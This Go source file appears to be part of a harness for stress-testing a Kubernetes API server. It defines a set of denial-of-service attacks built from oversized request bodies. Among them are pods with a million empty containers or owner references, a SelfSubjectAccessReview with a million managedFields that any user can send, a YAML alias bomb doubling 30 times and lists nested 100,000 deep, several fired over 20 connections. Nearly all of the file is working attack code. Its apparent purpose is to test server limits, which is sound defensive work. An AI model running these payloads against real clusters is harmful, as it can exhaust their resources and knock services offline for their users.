package attack

import (
	"context"
	"fmt"
	"strings"
)

// memoryOfRequests lets bodies in that are rejected with less, but don't end a server with the usual limit.
var memoryOfRequests = []string{"--max-memory-inflight=1Gi"}

const pods, services = attacked + "/pods?dryRun=All", attacked + "/services?dryRun=All"

// post makes requests that all have the same body.
func post(path, body string) func() Request {
	return func() Request { return Request{Method: "POST", Path: path, Body: []byte(body)} }
}

// bodies are small on the wire and large once they are read, or costly to validate.
func bodies() []Attack {
	return []Attack{
		{
			Group: "bodies", Name: "volume-paths", Answers: 2,
			Does: "Creates, as a dry run, a pod with a volume of 9,000 items that all have the same path.",
			Run: func(ctx context.Context, a *Attacker) error {
				return again(1, attacker, post(pods, pod(`"volumes":[{"name":"v","configMap":{"name":"c","items":[`+
					items(9000, func(i int) string { return fmt.Sprintf(`{"key":"k%d","path":"p"}`, i) })+
					`]}}]`)))(ctx, a)
			},
		},
		{
			Group: "bodies", Name: "ports", Answers: 2,
			Does: "Creates, as a dry run, a pod with 40,000 ports that are all the same.",
			Run: func(ctx context.Context, a *Attacker) error {
				return again(1, attacker, post(pods,
					`{"metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"i","ports":[`+
						items(40_000, func(int) string { return `{"containerPort":80,"hostPort":80}` })+
						`]}]}}`))(ctx, a)
			},
		},
		{
			Group: "bodies", Name: "ip-families", Answers: 2,
			Does: "Creates, as a dry run, a service with 60,000 unknown ipFamilies.",
			Run: func(ctx context.Context, a *Attacker) error {
				return again(2, attacker, post(services,
					`{"metadata":{"name":"s"},"spec":{"ports":[{"port":80}],"ipFamilies":[`+
						items(60_000, func(int) string { return `"x"` })+`]}}`))(ctx, a)
			},
		},
		{
			Group: "bodies", Name: "empty-finalizers", Answers: 2,
			Does: "Creates, as a dry run, an object with a million empty finalizers.",
			Run: func(ctx context.Context, a *Attacker) error {
				return again(1, attacker, post(configMaps+"?dryRun=All",
					`{"metadata":{"name":"c","finalizers":[`+million(`""`)+`]}}`))(ctx, a)
			},
		},
		{
			Group: "bodies", Name: "containers", Answers: 1,
			Does: "Creates, as a dry run, a pod with a million empty containers, on 20 connections.",
			Run: func(ctx context.Context, a *Attacker) error {
				return again(20, attacker, post(pods,
					`{"metadata":{"name":"p"},"spec":{"containers":[`+million(`{}`)+`]}}`))(ctx, a)
			},
		},
		{
			Group: "bodies", Name: "owners", Answers: 1,
			Does: "Creates, as a dry run, a pod with a million empty owner references, on 20 connections.",
			Run:  owners(1_000_000),
		},
		{
			Group: "bodies", Name: "fewer-owners", Answers: 1, Flags: memoryOfRequests,
			Does: "Does the same with 450,000, as many as are allowed.",
			Run:  owners(450_000),
		},
		{
			Group: "bodies", Name: "review", Answers: 1,
			Does: "Sends a SelfSubjectAccessReview, as every user may, with a million managedFields, on 20 connections.",
			Run:  review(1_000_000),
		},
		{
			Group: "bodies", Name: "shorter-review", Answers: 1, Flags: memoryOfRequests,
			Does: "Does the same with 450,000, as many as are allowed.",
			Run:  review(450_000),
		},
		{
			Group: "bodies", Name: "custom", Answers: 1,
			Does:  "Creates, as a dry run, a custom resource with a million empty objects, on 20 connections.",
			Setup: func(ctx context.Context, t *Target) error { return t.define(ctx, anything) },
			Run: func(ctx context.Context, a *Attacker) error {
				return again(20, attacker, post(things+"?dryRun=All", thing(`[`+million(`{}`)+`]`)))(ctx, a)
			},
		},
		{
			Group: "bodies", Name: "yaml", Answers: 10,
			Does: "Creates, as a dry run, an object from YAML in which aliases double the size 30 times.",
			Run: func(ctx context.Context, a *Attacker) error {
				return again(4, attacker, func() Request {
					r := post(configMaps+"?dryRun=All", bomb(30))()
					r.Media = "application/yaml"
					return r
				})(ctx, a)
			},
		},
		{
			Group: "bodies", Name: "nested", Answers: 10,
			Does:  "Creates, as a dry run, a custom resource whose lists are nested 100,000 deep.",
			Setup: func(ctx context.Context, t *Target) error { return t.define(ctx, anything) },
			Run: func(ctx context.Context, a *Attacker) error {
				return again(4, attacker, post(things+"?dryRun=All", thing(nested(100_000))))(ctx, a)
			},
		},
	}
}

// million returns a million of an item of two bytes, which is as much as a body holds.
func million(item string) string { return many(item, 1_000_000) }

func many(item string, n int) string { return strings.Repeat(item+",", n-1) + item }

// owners creates, as a dry run, pods with so many empty owner references.
func owners(n int) func(context.Context, *Attacker) error {
	return func(ctx context.Context, a *Attacker) error {
		body := `{"metadata":{"name":"p","ownerReferences":[` + many(`{}`, n) + `]}}`
		return again(20, attacker, post(pods, body))(ctx, a)
	}
}

// review asks, as any user may, with so many empty managedFields.
func review(n int) func(context.Context, *Attacker) error {
	const path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
	return func(ctx context.Context, a *Attacker) error {
		body := `{"metadata":{"managedFields":[` + many(`{}`, n) + `]},"spec":{"resourceAttributes":{"verb":"get"}}}`
		return again(20, stranger, post(path, body))(ctx, a)
	}
}

func pod(spec string) string {
	return `{"metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"i"}],` + spec + `}}`
}

// bomb is YAML in which each line holds the one before twice.
func bomb(lines int) string {
	var b strings.Builder
	b.WriteString("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\ndata:\n  a0: &a0 x\n")
	for i := range lines {
		fmt.Fprintf(&b, "  a%d: &a%d [*a%d, *a%d]\n", i+1, i+1, i, i)
	}
	return b.String()
}

// nested is a list in a list, and so on.
func nested(depth int) string { return strings.Repeat("[", depth) + strings.Repeat("]", depth) }
